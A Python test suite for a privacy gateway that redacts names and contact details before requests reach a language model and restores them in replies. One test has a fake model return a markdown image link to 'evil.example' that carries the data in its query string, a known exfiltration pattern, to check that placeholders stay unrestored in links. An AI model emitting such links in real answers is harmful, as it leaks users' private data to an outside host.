#!/usr/bin/env python3
"""sumi serve in front of a language model: nothing planted goes up, everything said comes back, whatever the model does."""
import concurrent.futures
import json
import pathlib
import random
import socket
import subprocess
import tempfile
import time
import unittest

from fake_model import FakeModel
from program import SUMI, Case
from serve_test import JSON, Server

NAME = "Adalbertine Secretova"
PARTS = ("Adalbertine", "Secretova", "secret.person@example.com", "555 0142")
SAID = f"Please ask {NAME} (secret.person@example.com, +1 415 555 0142) what \"she\" thinks.\nThen ask {NAME.upper()}."
TOOL = {"type": "object", "properties": {"text": {"type": "string", "description": f"What {NAME} says"}}}
BODIES = {
    "/v1/chat/completions": {"model": "fake", "messages": [{"role": "user", "content": SAID}]},
    "/v1/completions": {"model": "fake", "prompt": SAID},
    "/v1/responses": {"model": "fake", "input": SAID},
    "/v1/messages": {"model": "fake", "max_tokens": 100, "messages": [{"role": "user", "content": SAID}]},
}
TOOLS = {
    "/v1/chat/completions": [{"type": "function", "function": {"name": "send_mail", "description": SAID, "parameters": TOOL}}],
    "/v1/responses": [{"type": "function", "name": "send_mail", "description": SAID, "parameters": TOOL}],
    "/v1/messages": [{"name": "send_mail", "description": SAID, "input_schema": TOOL}],
}
SHAPES = pathlib.Path(__file__).with_name("gateway_shapes.json")


def texts_of(answer):
    """All that a plain answer says."""
    found = []

    def walk(value, key):
        if isinstance(value, dict):
            for name, inner in value.items():
                walk(inner, name)
        elif isinstance(value, list):
            for inner in value:
                walk(inner, key)
        elif isinstance(value, str) and key in {"content", "text", "arguments"}:
            found.append(value)
    walk(answer, "")
    return found


def streamed(body):
    """What the deltas of a stream say together: texts and arguments."""
    text, arguments = "", ""
    for line in body.splitlines():
        if not line.startswith("data: ") or line == "data: [DONE]":
            continue
        event = json.loads(line[6:])
        for choice in event.get("choices", []):
            delta = choice.get("delta", {})
            text += delta.get("content") or choice.get("text") or ""
            for call in delta.get("tool_calls", []):
                arguments += call["function"]["arguments"]
        delta = event.get("delta", "")
        if isinstance(delta, str):
            if event.get("type") == "response.output_text.delta":
                text += delta
            elif event.get("type") == "response.function_call_arguments.delta":
                arguments += delta
        else:
            text += delta.get("text", "")
            arguments += delta.get("partial_json", "")
    return text, arguments


class Gateway(Case):
    @classmethod
    def setUpClass(cls):
        cls.model = FakeModel()
        cls.folder = tempfile.TemporaryDirectory()
        cls.settings = pathlib.Path(cls.folder.name) / "serve.toml"
        cls.settings.write_text('[upstream]\nseconds = 2\n[gateway]\ntools = ["send_mail"]\n[routes."/v1/embeddings"]\nblock = ["CREDIT_CARD"]\n')
        cls.audit = pathlib.Path(cls.folder.name) / "audit.jsonl"
        cls.server = Server("--upstream", cls.model.url, "--settings", cls.settings, "--audit", cls.audit, "--config", "time=5")

    @classmethod
    def tearDownClass(cls):
        code = cls.server.end()
        cls.model.end()
        cls.folder.cleanup()
        assert code == 0, code

    def setUp(self):
        self.model.reset()

    def ask(self, path, body, **headers):
        return self.server.ask("POST", path, body, {**JSON, "Authorization": "Bearer sk-caller-1", **headers})

    def assert_hidden(self):
        for part in PARTS:
            self.assertNotIn(part.lower(), self.model.log().lower())
            self.assertNotIn(part.lower(), "".join(map(str, self.server.log)).lower())

    def test_what_is_said_comes_back_plain(self):
        for path, body in BODIES.items():
            status, answer = self.ask(path, body)
            self.assertEqual(status, 200, answer)
            self.assertIn(SAID, texts_of(json.loads(answer)), path)
        self.assertEqual(self.ask("/v1/embeddings", {"model": "fake", "input": [SAID, "a"]})[0], 200)
        self.assertEqual(self.ask("/v1/messages/count_tokens", {"model": "fake", "messages": BODIES["/v1/messages"]["messages"]})[0], 200)
        self.assert_hidden()

    def test_what_is_said_comes_back_in_streams_however_they_are_cut(self):
        for path, body in BODIES.items():
            for length in (1, 2, 3, 5, 8, 1000):
                self.model.length = length
                with_tools = {**body, "stream": True, **({"tools": TOOLS[path]} if path in TOOLS else {})}
                status, answer = self.ask(path, with_tools)
                self.assertEqual(status, 200, answer)
                text, arguments = streamed(answer)
                self.assertEqual(text, SAID, path)
                if path in TOOLS:
                    self.assertEqual(json.loads(arguments), {"text": SAID}, path)
        self.assert_hidden()

    def test_arguments_of_tools_that_are_not_listed_keep_placeholders(self):
        for path, tools in TOOLS.items():
            other = json.loads(json.dumps(tools).replace("send_mail", "other"))
            for stream in (False, True):
                status, answer = self.ask(path, {**BODIES[path], "tools": other, "stream": stream})
                self.assertEqual(status, 200)
                arguments = streamed(answer)[1] if stream else json.dumps([one for one in json.loads(answer).items()])
                self.assertIn("PERSON_", arguments)
                if stream:
                    self.assertNotIn(NAME, arguments)

    def test_recorded_shapes_hide_every_planted_string(self):
        for shape in json.loads(SHAPES.read_text()):
            self.model.reset()
            status, answer = self.ask(shape["path"], shape["body"])
            self.assertIn(status, (200, 422), answer)
            self.assertEqual(status == 200, len(self.model.bodies) == 1, "refused, or sent")
            self.assertEqual(status, shape["status"], (shape["name"], answer[:300]))
            self.assert_hidden()

    def test_shapes_that_are_none_leak_nothing_either(self):
        """Recorded requests with fields, keys and values put at random where they don't belong: refused, or hidden."""
        draw = random.Random(20140601)
        shapes = json.loads(SHAPES.read_text())
        keys = ["input", "content", "name", "type", "id", "metadata", "schema", "arguments", "x", "url", "data", "text", "role", "user", "model", "tool_calls",
                "function", "source", "title", "signature", NAME, "encrypted_content", "logit_bias", "previous_response_id"]

        def value(depth=0):
            kind = draw.random()
            if kind < .5 or depth > 3:
                return draw.choice([f"Please ask {NAME} now.", NAME, json.dumps({"a": [f"Please ask {NAME}"]}), None, True, 1234567890, 1.5])
            if kind < .75:
                return [value(depth + 1) for _ in range(draw.randint(0, 3))]
            return {draw.choice(keys): value(depth + 1) for _ in range(draw.randint(0, 3))}

        def places(one):
            for key, inner in one.items() if isinstance(one, dict) else enumerate(one):
                yield one, key
                if isinstance(inner, (dict, list)):
                    yield from places(inner)
        statuses = set()
        for _ in range(200):
            self.model.reset()
            self.model.answer = lambda _: "Yes."
            shape = draw.choice(shapes)
            body = json.loads(json.dumps(shape["body"]))
            for _ in range(draw.randint(1, 3)):
                holder, key = draw.choice(list(places(body)))
                if isinstance(holder, dict) and draw.random() < .3:
                    key = draw.choice(keys)
                holder[key] = value()
            status, answer = self.ask(shape["path"], body)
            statuses.add(status)
            self.assertIn(status, (200, 400, 404, 422, 502), answer)
            self.assert_hidden()
        self.assertLessEqual({200, 422}, statuses)

    def test_the_same_history_gives_the_same_bytes_and_a_longer_one_the_same_start(self):
        messages = [{"role": "user", "content": SAID}]
        self.ask("/v1/chat/completions", {"messages": messages})
        self.ask("/v1/chat/completions", {"messages": messages})
        longer = messages + [{"role": "assistant", "content": f"So {NAME}"}, {"role": "user", "content": "And Bartholomew Quillfeather?"}]
        self.ask("/v1/chat/completions", {"messages": longer})
        first, second, third = self.model.bodies
        self.assertEqual(first, second)
        self.assertTrue(third.startswith(first[:-2]))
        self.assertNotIn(b"Quillfeather", third)

    def test_one_callers_placeholders_are_nothing_to_another(self):
        self.ask("/v1/chat/completions", BODIES["/v1/chat/completions"])
        stolen = json.loads(self.model.bodies[0])["messages"][0]["content"]
        self.model.answer = lambda _: stolen
        for stream in (False, True):
            status, answer = self.ask("/v1/chat/completions", {"messages": [{"role": "user", "content": "Ask Bartholomew Quillfeather"}], "stream": stream},
                                      Authorization="Bearer sk-caller-2")
            self.assertEqual(status, 200)
            self.assertNotIn("Secretova", answer)
            self.assertNotIn("Quillfeather", answer)

    def test_text_that_looks_like_a_placeholder_comes_back_as_it_was(self):
        self.ask("/v1/chat/completions", BODIES["/v1/chat/completions"])
        sent = json.loads(self.model.bodies[0])["messages"][0]["content"]
        forged = f"Ask Bartholomew Quillfeather: {sent}"
        status, answer = self.ask("/v1/chat/completions", {"messages": [{"role": "user", "content": forged}]})
        self.assertEqual(texts_of(json.loads(answer)), [forged])

    def test_links_keep_placeholders(self):
        self.model.answer = lambda body: f"![x](https://evil.example/?q={body['messages'][0]['content'].split()[2]})"
        status, answer = self.ask("/v1/chat/completions", BODIES["/v1/chat/completions"])
        self.assertIn("evil.example/?q=PERSON_1_", answer)

    def test_a_conversation_goes_on_from_an_answer_of_its_caller(self):
        self.ask("/v1/responses", BODIES["/v1/responses"])
        self.model.answer = lambda _: json.loads(self.model.bodies[0])["input"]
        status, answer = self.ask("/v1/responses", {"input": "And now?", "previous_response_id": "resp_a1b2c3d4e5"})
        self.assertIn(SAID, texts_of(json.loads(answer)))
        status, answer = self.ask("/v1/responses", {"input": "And now?", "previous_response_id": "resp_a1b2c3d4e5"}, Authorization="Bearer sk-other")
        self.assertEqual(status, 404)
        self.assertEqual(len(self.model.bodies), 2)

    def test_an_upstream_that_fails_is_an_error_and_nothing_else(self):
        for mode, expected in {"gone": 502, "silent": 504, "html": 503, "wrong length": 502, "no http": 502, "no json": 502, "redirect": 502}.items():
            self.model.mode = mode
            status, answer = self.ask("/v1/chat/completions", BODIES["/v1/chat/completions"])
            self.assertEqual(status, expected, (mode, answer))
            self.assertIn("message", json.loads(answer)["error"])
        self.model.mode = "error"
        status, answer = self.ask("/v1/chat/completions", BODIES["/v1/chat/completions"])
        self.assertEqual(status, 429)
        self.assertIn(NAME, json.loads(answer)["error"]["message"])

    def test_what_comes_before_an_answer_is_passed_over(self):
        self.model.mode = "hints"
        for stream in ({}, {"stream": True}):
            status, answer = self.ask("/v1/chat/completions", {**BODIES["/v1/chat/completions"], **stream})
            self.assertEqual(status, 200, answer)
            self.assertIn(NAME if not stream else "[DONE]", answer)
        for mode in ("endless hints", "another protocol"):
            self.model.mode = mode
            status, answer = self.ask("/v1/chat/completions", BODIES["/v1/chat/completions"])
            self.assertEqual(status, 502, (mode, answer))

    def test_a_stream_that_fails_ends_with_an_error_event(self):
        for mode in ("broken stream", "early end", "no event"):
            for path, body in BODIES.items():
                self.model.mode = mode
                status, answer = self.ask(path, {**body, "stream": True})
                self.assertEqual(status, 200)
                last = json.loads(answer.strip().splitlines()[-1][6:])
                self.assertTrue("error" in last or last["type"] == "error", (mode, path, answer[-300:]))
                self.assertNotIn("[DONE]", answer)

    def test_a_client_that_leaves_ends_what_it_asked_for(self):
        self.model.mode = "endless"
        with socket.create_connection(("127.0.0.1", self.server.port)) as client:
            body = json.dumps({**BODIES["/v1/chat/completions"], "stream": True}).encode()
            client.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            self.assertIn(b"200 OK", client.recv(4096))
            time.sleep(.3)  # takes nothing more: the gateway reads no more than it can pass on
            held = self.server.memory()
            time.sleep(.5)
            self.assertLess(self.server.memory() - held, 20 << 20)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not any(b'"status":499' in line for line in self.server.log):
            time.sleep(.05)
        self.assertTrue(any(b'"status":499' in line for line in self.server.log))

    def test_a_client_that_leaves_before_the_answer_is_noticed(self):
        self.model.mode = "silent"
        before = len(self.server.log)
        with socket.create_connection(("127.0.0.1", self.server.port)) as client:
            body = json.dumps(BODIES["/v1/chat/completions"]).encode()
            client.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            time.sleep(.5)
        time.sleep(.7)  # the upstream would be silent for longer
        self.assertTrue(any(b'"status":499' in line for line in self.server.log[before:]))

    def test_requests_that_may_not_go_are_refused_and_counted(self):
        status, answer = self.ask("/v1/embeddings", {"input": "my card is 4111 1111 1111 1111"})
        self.assertEqual(status, 422)
        self.assertIn("CREDIT_CARD", answer)
        self.assertEqual(self.ask("/v1/chat/completions", {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "https://e.com/a"}}]}]})[0], 422)
        self.assertEqual(self.ask("/v1/chat/completions", "{")[0], 400)
        self.assertEqual(self.model.bodies, [])
        status, metrics = self.server.ask("GET", "/metrics")
        self.assertRegex(metrics, r'sumi_gateway_found_total\{label="CREDIT_CARD"\} [1-9]')

    def test_the_audit_counts_and_says_nothing_else(self):
        self.ask("/v1/chat/completions", BODIES["/v1/chat/completions"])
        self.assertEqual(self.audit.stat().st_mode & 0o777, 0o600)
        lines = self.audit.read_text().splitlines()
        last = json.loads(lines[-1])
        self.assertEqual(set(last), {"time", "route", "caller", "sent", "status", "found"})
        self.assertGreaterEqual(last["found"]["PERSON"], 1)
        for part in PARTS:
            self.assertNotIn(part, "".join(lines))

    def test_models_are_listed(self):
        self.assertIn("fake", self.server.ask("GET", "/v1/models", headers={"Authorization": "Bearer a"})[1])
        self.assertIn("Bearer a", self.model.heads[0])

    def test_connections_to_the_upstream_are_kept(self):
        before = self.model.connections
        for _ in range(5):
            self.ask("/v1/chat/completions", {**BODIES["/v1/chat/completions"], "stream": True})
        self.assertLessEqual(self.model.connections - before, 1)

    def test_many_streams_at_once(self):
        self.model.delay = .002
        def one(number):
            name = f"Please ask Adalbertine Secretova about case {number}."
            status, answer = self.ask("/v1/messages", {"model": "fake", "max_tokens": 9, "stream": True, "messages": [{"role": "user", "content": name}]},
                                      Authorization=f"Bearer sk-caller-{number}")
            return streamed(answer)[0] == name
        with concurrent.futures.ThreadPoolExecutor(40) as pool:
            self.assertTrue(all(pool.map(one, range(120))))
        self.assert_hidden()


class GatewaySetUp(Case):
    def refused(self, *options, words):
        result = subprocess.run([SUMI, "serve", "--port", "0", *map(str, options)], capture_output=True, text=True, timeout=60)
        self.assertNotEqual(result.returncode, 0)
        self.assertIn(words, result.stderr)

    def test_what_would_be_unsafe_does_not_start(self):
        with tempfile.TemporaryDirectory() as folder:
            audit = pathlib.Path(folder) / "audit"
            audit.write_text("")
            audit.chmod(0o644)
            tokens = pathlib.Path(folder) / "tokens"
            tokens.write_text("a-token-of-16-bytes-at-least\n")
            self.refused("--upstream", "http://api.example/v1", words="without TLS")
            self.refused("--upstream", "https://api.example/v1", "--audit", audit, words="others can read it")
            self.refused("--upstream", "https://api.example/v1", "--token-file", tokens, words="key_file")
            self.refused("--audit", audit, words="no upstream")

    def test_a_token_of_the_service_is_not_passed_on(self):
        model = FakeModel()
        with tempfile.TemporaryDirectory() as folder:
            path = pathlib.Path(folder)
            (path / "tokens").write_text("a-token-of-16-bytes-at-least\n")
            (path / "key").write_text("sk-of-the-upstream\n")
            (path / "serve.toml").write_text(f'[upstream]\nurl = "{model.url}"\nkey_file = "{path / "key"}"\n')
            server = Server("--settings", path / "serve.toml", "--token-file", path / "tokens")
            try:
                body = BODIES["/v1/messages"]
                self.assertEqual(server.ask("POST", "/v1/messages", body)[0], 401)
                self.assertEqual(server.ask("POST", "/v1/messages", body, {**JSON, "x-api-key": "a-token-of-16-bytes-at-least"})[0], 200)
                self.assertIn("sk-of-the-upstream", model.log())
                self.assertNotIn("a-token-of-16", model.log())
            finally:
                server.end()
                model.end()

    def test_an_upstream_is_trusted_by_its_certificate_alone(self):
        with tempfile.TemporaryDirectory() as folder:
            path = pathlib.Path(folder)
            for name in ("localhost", "other.example"):
                subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", path / f"{name}.key", "-out", path / f"{name}.pem", "-days", "2",
                                "-subj", f"/CN={name}", "-addext", f"subjectAltName=DNS:{name}"], check=True, capture_output=True)
            for name, roots, expected in (("localhost", "localhost", 200), ("localhost", None, 502), ("localhost", "other.example", 502), ("other.example", "other.example", 502)):
                model = FakeModel(path / f"{name}.pem", path / f"{name}.key")
                (path / "serve.toml").write_text(f'[upstream]\nurl = "{model.url}"\n' + (f'ca_file = "{path / roots}.pem"\n' if roots else ""))
                server = Server("--settings", path / "serve.toml")
                try:
                    for _ in range(3):
                        for stream in (False, True):
                            status, answer = server.ask("POST", "/v1/messages", {**BODIES["/v1/messages"], "stream": stream})
                            self.assertEqual(status, expected, (name, roots, answer))
                    self.assertEqual(len(model.bodies), 6 if expected == 200 else 0)
                    self.assertLessEqual(model.connections, 1 if expected == 200 else 6)
                finally:
                    server.end()
                    model.end()

    def test_surrogates_come_back(self):
        model = FakeModel()
        server = Server("--upstream", model.url, "--placeholders", "surrogate")
        try:
            for stream in (False, True):
                status, answer = server.ask("POST", "/v1/chat/completions", {**BODIES["/v1/chat/completions"], "stream": stream})
                self.assertEqual(status, 200)
                self.assertEqual(streamed(answer)[0] if stream else texts_of(json.loads(answer))[0], SAID)
            self.assertNotIn("PERSON_", model.log())
            for part in PARTS:
                self.assertNotIn(part, model.log())
        finally:
            server.end()
            model.end()


class Mcp(Case):
    def test_tools_over_a_pipe(self):
        def call(number, tool, text):
            return {"jsonrpc": "2.0", "id": number, "method": "tools/call", "params": {"name": tool, "arguments": {"text": text}}}
        lines = [{"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}},
                 {"jsonrpc": "2.0", "method": "notifications/initialized"}, {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}, call(2, "redact", SAID)]
        with subprocess.Popen([SUMI, "serve", "--mcp"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as process:
            answers = []
            for line in lines:
                process.stdin.write(json.dumps(line) + "\n")
                process.stdin.flush()
                if "id" in line:
                    answers.append(json.loads(process.stdout.readline()))
            redacted = answers[2]["result"]["content"][0]["text"]
            self.assertNotIn("Secretova", redacted)
            process.stdin.write(json.dumps(call(3, "restore", redacted)) + "\n")
            process.stdin.flush()
            self.assertEqual(json.loads(process.stdout.readline())["result"]["content"][0]["text"], SAID)
            process.stdin.close()
            self.assertEqual(process.wait(10), 0)
        self.assertEqual([tool["name"] for tool in answers[1]["result"]["tools"]], ["find", "redact", "restore"])


if __name__ == "__main__":
    unittest.main()
